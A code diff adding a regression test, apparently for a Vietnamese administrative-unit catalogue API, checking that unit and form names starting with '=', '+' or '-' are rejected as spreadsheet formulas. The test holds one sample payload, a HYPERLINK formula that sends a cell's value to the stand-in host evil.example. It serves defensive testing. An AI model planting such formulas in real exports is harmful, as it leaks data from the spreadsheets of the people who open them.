@@ -92,6 +92,55 @@ async def test_an_inconsistent_catalogue_is_refused_whole(intake: Any, db: async
     assert unknown.status_code == 422
 
 
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+async def test_a_name_that_would_run_as_a_spreadsheet_formula_is_refused(
+    intake: Any, db: asyncpg.Connection
+) -> None:
+    """Issue 11: such a unit name reached kpi's CSV exports as-is and its .xlsx as a live formula."""
+    client, tokens = intake
+    units = (
+        await client.get("/api/v1/admin/catalogue/files/units.csv", headers=auth(tokens["admin"]))
+    ).json()
+    quoted = '"' + EVIL.replace('"', '""') + '"'
+    assert "09313,Chi Lăng," in units["content"]
+    reply = await client.put(
+        "/api/v1/admin/catalogue/files/units.csv",
+        json={
+            "content": units["content"].replace("09313,Chi Lăng,", f"09313,{quoted},", 1),
+            "summary": "thử",
+        },
+        headers=auth(tokens["admin"]),
+    )
+    assert reply.status_code == 422, reply.text
+    error = reply.json()["errors"][0]
+    assert error["code"] == "catalogue.formula_name" and error["field"] == "content"
+    assert "units.csv" in error["message"] and "09313" in error["message"] and "“name”" in error["message"]
+    assert "công thức" in error["message"]
+    forms = (
+        await client.get("/api/v1/admin/catalogue/files/forms.yaml", headers=auth(tokens["admin"]))
+    ).json()
+    renamed = forms["content"].replace('name_vi: "Báo cáo tháng"', 'name_vi: "+Báo cáo tháng"', 1)
+    assert renamed != forms["content"]
+    reply = await client.put(
+        "/api/v1/admin/catalogue/files/forms.yaml",
+        json={"content": renamed, "summary": "thử"},
+        headers=auth(tokens["admin"]),
+    )
+    assert reply.status_code == 422 and reply.json()["errors"][0]["code"] == "catalogue.formula_name"
+    assert "forms.yaml" in reply.json()["errors"][0]["message"]
+    merge = {
+        "sources": ["09313", "09292"],
+        "new_unit": {"code": "09999", "name": "-Chi Lăng", "kind": "xa"},
+        "effective": "2026-04-01",
+        "summary": "Sáp nhập (thử nghiệm)",
+    }
+    reply = await client.post("/api/v1/admin/units/merge", json=merge, headers=auth(tokens["admin"]))
+    assert reply.status_code == 422 and reply.json()["errors"][0]["code"] == "catalogue.formula_name"
+    assert await db.fetchval("SELECT count(*) FROM intake.catalogue_versions") == 0
+
+
 async def test_a_merge_is_one_admin_operation_and_reports_follow_it(
     intake: Any, db: asyncpg.Connection
 ) -> None:
